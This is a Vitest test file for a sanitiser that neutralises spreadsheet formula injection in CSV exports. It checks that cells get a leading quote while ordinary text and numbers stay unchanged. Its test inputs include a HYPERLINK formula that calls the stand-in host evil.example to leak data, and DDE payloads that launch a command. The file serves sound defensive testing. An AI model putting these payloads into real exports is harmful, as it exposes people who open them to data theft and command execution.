import { describe, expect, it } from 'vitest';
import { csvLine, spreadsheetCell } from './spreadsheet-cell';

describe('spreadsheetCell', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?leak","Ung Puls")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '-- fri text',
  ])('puts a single quote before text a spreadsheet would evaluate: %j', (text) => {
    expect(spreadsheetCell(text)).toBe(`'${text}`);
  });

  it.each([
    'Föreningen Ung Puls',
    'Ung Puls = framtiden',
    "Barnens rätt – 'trygghet'",
    '',
    "'already quoted",
  ])('leaves other text exactly as written: %j', (text) => {
    expect(spreadsheetCell(text)).toBe(text);
  });

  it('leaves numbers as numbers, negative ones too', () => {
    expect(spreadsheetCell(-3)).toBe(-3);
    expect(spreadsheetCell(12)).toBe(12);
  });
});

describe('csvLine', () => {
  it('quotes separators, quotes and line breaks, and every neutralised cell', () => {
    expect(csvLine(['a;b', 'say "hi"', 'two\nlines', 'plain', 3])).toBe(
      '"a;b";"say ""hi""";"two\nlines";plain;3',
    );
    expect(csvLine(['=1+1', '-- fri text'])).toBe(`"'=1+1";"'-- fri text"`);
    expect(csvLine(['=HYPERLINK("http://evil.example/","x")'])).toBe(
      `"'=HYPERLINK(""http://evil.example/"",""x"")"`,
    );
  });
});
